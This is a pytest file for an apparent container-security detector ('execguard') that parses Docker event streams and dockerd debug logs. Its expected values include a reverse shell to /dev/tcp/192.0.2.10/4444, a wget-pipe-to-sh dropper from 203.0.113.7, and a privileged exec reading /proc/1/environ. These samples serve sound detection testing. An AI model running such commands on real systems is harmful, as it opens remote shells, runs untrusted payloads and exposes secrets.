"""docker-events and dockerd-log sources, on the real Docker 20.10 capture in tests/data/docker/."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from execguard.engine.fields import flat_fields
from execguard.engine.load import load_rules
from execguard.engine.match import Engine
from execguard.model import Event
from execguard.pipeline.prefilter import literals_for
from execguard.sources import dockerd_log
from execguard.sources.reader import Reader

DOCKER = Path(__file__).parent / "data" / "docker"
EVENTS = DOCKER / "docker-events.jsonl"
LOG = DOCKER / "dockerd-debug.log"
PRIV_EXEC = "945571897f1010d91c4881354df2d14827a71e42375743343ca62a552485b21b"
CAT_EXEC = "27292586c0ba9cb1faa5e10d8c4320aee50e89c7be727027248d8fdbb5b6e5cb"
WEB_ID = "3a08cc405f3cc98f6280826390f68b7b291105f52b0190b0bc905a698e30dc81"


def read(path: Path, literals: list[bytes] | None = None, fmt: str = "auto") -> tuple[list[Event], list[tuple[int | None, str]]]:
    warnings: list[tuple[int | None, str]] = []
    reader = Reader(fmt=fmt, literals=literals, warn=lambda f, n, m: warnings.append((n, m)))
    return list(reader.read([str(path)])), warnings


def write_lines(tmp_path: Path, name: str, lines: list[str]) -> Path:
    path = tmp_path / name
    path.write_text("".join(line if line.endswith("\n") else line + "\n" for line in lines))
    return path


def log_lines() -> list[str]:
    return LOG.read_text().splitlines(keepends=True)


# ---- docker events ----------------------------------------------------------------------
def test_events_exec_create_and_start_share_the_exec_id() -> None:
    events, warnings = read(EVENTS)
    assert not warnings
    assert {e.source.format for e in events} == {"docker-events"}
    cat = [e for e in events if e.event_id == CAT_EXEC and e.action == "exec"]
    assert [e.verb for e in cat] == ["exec_create", "exec_start"]
    for e in cat:
        assert e.command == ["cat", "/etc/hostname"]
        assert e.target.container == "web"
        assert e.target.container_id == WEB_ID
        assert e.target.image == "local/bb:1"
    assert cat[0].time == "2026-11-29T03:37:04.650233073Z"
    die = next(e for e in events if e.event_id == CAT_EXEC and e.verb == "exec_die")
    assert die.action == "other" and die.code == 0 and die.outcome == "allowed"


def test_events_command_is_split_on_white_space() -> None:
    events, _ = read(EVENTS)
    shell = next(e for e in events if e.verb == "exec_start" and e.command[:1] == ["sh"] and "/dev/tcp/192.0.2.10/4444" in e.command)
    # the events stream joined argv with spaces: boundaries are gone (the debug log keeps them)
    assert shell.command == ["sh", "-c", "sh", "-i", ">&", "/dev/tcp/192.0.2.10/4444", "0>&1"]


def test_events_container_lifecycle_fills_target() -> None:
    events, _ = read(EVENTS)
    create = next(e for e in events if e.verb == "create" and e.target.container == "ubuntu-k")
    assert create.action == "other"
    assert create.target.kind == "container"
    assert create.target.container_id == "eeb1f1b3d172ab3a8b9b7d9af352d429e771dad3685c7f355f0021dd046e3314"
    failed = [e for e in events if e.verb == "exec_die" and e.outcome == "error"]
    assert {e.code for e in failed} == {1}


def test_events_kubernetes_labels_and_legacy_keys(tmp_path: Path) -> None:
    # a real record, with the labels cri-dockerd puts on pod containers added (written for this test)
    first = json.loads(EVENTS.read_text().splitlines()[3])
    first["Actor"]["Attributes"].update(
        {"io.kubernetes.pod.name": "api-7d9", "io.kubernetes.pod.namespace": "prod", "io.kubernetes.container.name": "api"}
    )
    # a pre-1.22 record has only status/id/from/time
    legacy = {k: first[k] for k in ("status", "id", "from", "time")}
    events, warnings = read(write_lines(tmp_path, "ev.jsonl", [json.dumps(first), json.dumps(legacy)]))
    assert not warnings
    labelled, old = events
    assert (labelled.target.namespace, labelled.target.pod, labelled.target.container) == ("prod", "api-7d9", "api")
    assert old.action == "exec" and old.command == ["cat", "/etc/hostname"]
    assert old.target.container_id == WEB_ID and old.target.image == "local/bb:1"
    assert old.time == "2026-11-29T03:37:04Z"  # whole seconds only


def test_events_bad_record_is_a_warning(tmp_path: Path) -> None:
    good = EVENTS.read_text().splitlines()[3]
    bad = json.loads(good)
    bad["Actor"] = "not an object"
    events, warnings = read(write_lines(tmp_path, "ev.jsonl", [json.dumps(bad), good]))
    assert len(events) == 1 and events[0].event_id == CAT_EXEC
    assert warnings and warnings[0][0] == 1 and "docker-events" in warnings[0][1]


def test_engine_alerts_once_per_exec_from_events() -> None:
    events, _ = read(EVENTS)
    engine = Engine(load_rules())
    alerts = list(engine.run(events))
    ids = [a.event.event_id for a in alerts if a.event.action == "exec"]
    assert ids and len(ids) == len(set(ids))
    assert CAT_EXEC in ids and engine.suppressed >= len(ids)


# ---- dockerd debug log ------------------------------------------------------------------
def test_sniff() -> None:
    assert dockerd_log.sniff(LOG.read_bytes()[:65536])
    assert not dockerd_log.sniff(EVENTS.read_bytes()[:65536])
    falco = Path(__file__).parent / "data" / "falco" / "exec_pod.json"
    assert not dockerd_log.sniff(falco.read_bytes())


def test_log_exec_keeps_exact_argv_and_flags() -> None:
    events, warnings = read(LOG)
    assert not warnings
    execs = {e.source.line: e for e in events if e.action == "exec"}
    cat = execs[381]  # the line of the Calling POST, not of its form data
    assert cat.command == ["cat", "/etc/hostname"]
    assert (cat.verb, cat.target.container, cat.event_id, cat.outcome) == ("exec_create", "web", CAT_EXEC, "allowed")
    assert cat.time == "2026-11-29T03:37:04.649876624Z"
    assert cat.request_uri == "/v1.41/containers/web/exec"
    priv = execs[494]
    assert priv.command == ["sh", "-c", "cat /proc/1/environ; id"]
    assert (priv.privileged, priv.run_as_user, priv.event_id) == (True, "0", PRIV_EXEC)
    assert execs[419].run_as_user == "1000"
    shell = execs[512]
    assert shell.command == ["sh", "-c", "sh -i >& /dev/tcp/192.0.2.10/4444 0>&1"]
    interactive = execs[567]
    assert (interactive.command, interactive.stdin, interactive.tty) == (["sh"], True, False)


def test_log_exec_ids_match_the_events_stream() -> None:
    log, _ = read(LOG)
    events, _ = read(EVENTS)
    started = {e.event_id: e.command for e in events if e.verb == "exec_start"}
    logged = {e.event_id: e.command for e in log if e.action == "exec" and e.event_id}
    assert set(logged) == set(started)
    for exec_id, argv in logged.items():
        assert " ".join(argv).split() == started[exec_id]


def test_log_failed_exec_and_creates() -> None:
    events, _ = read(LOG)
    failed = next(e for e in events if e.source.line == 561)
    assert (failed.action, failed.outcome, failed.event_id, failed.target.container) == ("exec", "error", None, "priv")
    creates = {e.target.container: e for e in events if e.action == "create"}
    assert set(creates) == {"web", "ubuntu-k", "priv"}
    kinsing = creates["ubuntu-k"]
    assert kinsing.command == ["/bin/sh", "-c", "wget -q -O - http://203.0.113.7/d.sh | sh; sleep 30"]
    assert (kinsing.target.kind, kinsing.target.image, kinsing.privileged) == ("container", "local/bb:1", False)
    assert (creates["priv"].privileged, creates["priv"].binds) == (True, ["/tmp/rootfs:/host"])
    assert creates["web"].command == ["sleep", "600"] and creates["web"].binds == []


def test_log_prefilter_keeps_every_needed_line() -> None:
    full, _ = read(LOG)
    lits = literals_for({"exec", "create"})
    assert lits is not None
    filtered, _ = read(LOG, literals=lits)
    assert [(e.source.line, e.command, e.event_id) for e in filtered] == [(e.source.line, e.command, e.event_id) for e in full]


def test_log_journald_prefix(tmp_path: Path) -> None:
    lines = ["Nov 29 03:37:04 node1 dockerd[18250]: " + line for line in log_lines()]
    events, warnings = read(write_lines(tmp_path, "journal.log", lines))
    full, _ = read(LOG)
    assert not warnings
    assert [(e.source.line, e.command, e.event_id) for e in events] == [(e.source.line, e.command, e.event_id) for e in full]


def test_log_json_format(tmp_path: Path) -> None:
    # the same records as dockerd --log-format json writes them
    out = []
    for line in log_lines():
        parsed = dockerd_log.parse_line(line)
        assert parsed is not None
        level = line.split("level=", 1)[1].split()[0]
        out.append(json.dumps({"level": level, "msg": parsed[1], "time": parsed[0]}))
    events, warnings = read(write_lines(tmp_path, "json.log", out))
    full, _ = read(LOG)
    assert not warnings
    assert [(e.source.line, e.command, e.privileged, e.event_id) for e in events] == [
        (e.source.line, e.command, e.privileged, e.event_id) for e in full
    ]


def test_log_pairs_interleaved_calls_by_body_shape(tmp_path: Path) -> None:
    lines = log_lines()
    exec_call, exec_body, create_call, create_body, noise = lines[380], lines[381], lines[529], lines[530], lines[387]
    # two requests in flight at once: bodies logged in the other order, with noise between
    events, warnings = read(write_lines(tmp_path, "mixed.log", [exec_call, noise, create_call, noise, create_body, noise, exec_body]))
    assert not warnings
    by_action = {e.action: e for e in events}
    assert by_action["create"].target.container == "priv" and by_action["create"].source.line == 3
    assert by_action["exec"].command == ["cat", "/etc/hostname"] and by_action["exec"].source.line == 1
    assert by_action["exec"].outcome == "unknown"  # its start is not in this log


def test_log_truncated_form_data_is_a_warning(tmp_path: Path) -> None:
    lines = log_lines()
    cut = lines[381][:120].rstrip('"') + "\n"
    path = write_lines(tmp_path, "cut.log", [lines[380], cut, *lines[399:403]])
    events, warnings = read(path)
    assert len(warnings) == 1 and warnings[0][0] == 2 and "form data" in warnings[0][1]
    assert [(e.source.line, e.command) for e in events] == [(1, []), (3, ["ls", "/"])]


def test_log_redacts_secrets(tmp_path: Path) -> None:
    lines = log_lines()
    body = lines[381].replace('[\\"cat\\",\\"/etc/hostname\\"]', '[\\"mysql\\",\\"--password=hunter2\\",\\"-e\\",\\"select 1\\"]')
    body = body.replace('\\"Env\\":null', '\\"Env\\":[\\"DB_PASSWORD=hunter2\\"]')
    events, _ = read(write_lines(tmp_path, "secret.log", [lines[380], body]))
    assert events[0].command == ["mysql", "--password=[REDACTED]", "-e", "select 1"]
    assert "hunter2" not in json.dumps([flat_fields(e) for e in events], default=str)


def test_log_start_without_create(tmp_path: Path) -> None:
    lines = log_lines()
    events, _ = read(write_lines(tmp_path, "start.log", lines[382:384]))
    assert [(e.action, e.verb, e.event_id, e.command) for e in events] == [("exec", "exec_start", CAT_EXEC, [])]


@pytest.mark.parametrize("junk", ["", "not a log line", 'time="x" level=debug msg="form data: [1, 2]"', "\x00\xff garbage"])
def test_log_junk_never_raises_out(tmp_path: Path, junk: str) -> None:
    lines = log_lines()
    events, _ = read(write_lines(tmp_path, "junk.log", [lines[0], junk, *lines[380:384]]))
    assert [e.command for e in events] == [["cat", "/etc/hostname"]]
